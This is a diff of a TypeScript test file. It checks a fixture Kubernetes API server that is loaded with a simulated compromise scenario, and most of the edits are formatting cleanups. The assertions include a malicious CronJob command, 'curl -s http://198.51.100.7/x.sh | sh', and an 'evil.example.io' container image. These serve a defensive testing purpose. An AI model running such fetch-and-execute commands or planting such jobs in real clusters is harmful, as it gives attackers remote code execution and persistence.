@@ -25,7 +25,7 @@ async function rawGet(kc: KubeConfig, path: string, accept = 'application/json')
   const url = `${kc.getCurrentCluster()!.server}${path}`;
   const ctx = new RequestContext(url, HttpMethod.GET);
   await kc.applySecurityAuthentication(ctx);
-  const res = await fetch(url, { headers: { ...ctx.getHeaders(), Accept: accept }, dispatcher: ctx.getDispatcher() as any });
+  const res = await fetch(url, { headers: { ...ctx.getHeaders(), Accept: accept }, dispatcher: ctx.getDispatcher() });
   const text = await res.text();
   return { status: res.status, body: text ? JSON.parse(text) : undefined, headers: res.headers as unknown as Headers };
 }
@@ -53,9 +53,7 @@ describe('fixture API server with the compromise scenario', () => {
     const list = await core.listPodForAllNamespaces();
     const expected = scenario.objects.filter((o) => o.kind === 'Pod');
     expect(expected.length).toBeGreaterThanOrEqual(18);
-    expect(list.items.map((p) => `${p.metadata!.namespace}/${p.metadata!.name}`).sort()).toEqual(
-      expected.map((p) => `${p.metadata.namespace}/${p.metadata.name}`).sort(),
-    );
+    expect(list.items.map((p) => `${p.metadata!.namespace}/${p.metadata!.name}`).sort()).toEqual(expected.map((p) => `${p.metadata.namespace}/${p.metadata.name}`).sort());
     expect(list.metadata?.resourceVersion).toMatch(/^\d+$/);
     expect(list.kind).toBe('PodList');
     const privileged = list.items.find((p) => p.metadata!.name === 'node-agent-x9z8y')!;
@@ -96,8 +94,8 @@ describe('fixture API server with the compromise scenario', () => {
 
     const batch = kc.makeApiClient(BatchV1Api);
     const cj = await batch.readNamespacedCronJob({ name: 'cleanup', namespace: 'kube-system' });
-    expect(cj.spec!.jobTemplate.spec!.template.spec!.containers[0]!.args).toEqual(['curl -s http://198.51.100.7/x.sh | sh']);
-    expect(cj.spec!.jobTemplate.spec!.template.spec!.initContainers![0]!.image).toBe('evil.example.io/tools:latest');
+    expect(cj.spec.jobTemplate.spec!.template.spec!.containers[0]!.args).toEqual(['curl -s http://198.51.100.7/x.sh | sh']);
+    expect(cj.spec.jobTemplate.spec!.template.spec!.initContainers![0]!.image).toBe('evil.example.io/tools:latest');
 
     const apps = kc.makeApiClient(AppsV1Api);
     const ds = await apps.listDaemonSetForAllNamespaces();
@@ -168,7 +166,10 @@ describe('fixture API server with the compromise scenario', () => {
     expect(byName.get('metrics.k8s.io').preferredVersion.groupVersion).toBe('metrics.k8s.io/v1beta1');
     const crd = await rawGet(kc, '/apis/ops.example.com/v1');
     expect(crd.body.resources).toEqual(
-      expect.arrayContaining([expect.objectContaining({ name: 'scheduledbackups', kind: 'ScheduledBackup', namespaced: true }), expect.objectContaining({ name: 'scheduledbackups/status' })]),
+      expect.arrayContaining([
+        expect.objectContaining({ name: 'scheduledbackups', kind: 'ScheduledBackup', namespaced: true }),
+        expect.objectContaining({ name: 'scheduledbackups/status' }),
+      ]),
     );
     const metrics = await rawGet(kc, '/apis/metrics.k8s.io/v1beta1');
     expect(metrics.body.resources.map((r: any) => `${r.name}:${r.kind}`).sort()).toEqual(['nodes:NodeMetrics', 'pods:PodMetrics']);
@@ -220,7 +221,11 @@ describe('fixture API server with the compromise scenario', () => {
     expect(byLabel.items.map((p) => p.metadata!.name).sort()).toEqual(['api-5f6d7c8b9-klmno', 'api-5f6d7c8b9-uvwxy', 'node-agent-b7c6d', 'node-agent-x9z8y']);
     const byField = await core.listPodForAllNamespaces({ fieldSelector: 'status.phase=Succeeded' });
     expect(byField.items.map((p) => p.metadata!.name)).toEqual(['cleanup-28620465-x7k2p']);
-    const secretsByType = await rawGet(kc, '/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token', 'application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1');
+    const secretsByType = await rawGet(
+      kc,
+      '/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token',
+      'application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1',
+    );
     expect(secretsByType.body.items.map((i: any) => i.metadata.name)).toEqual(['node-agent-token']);
   });
 
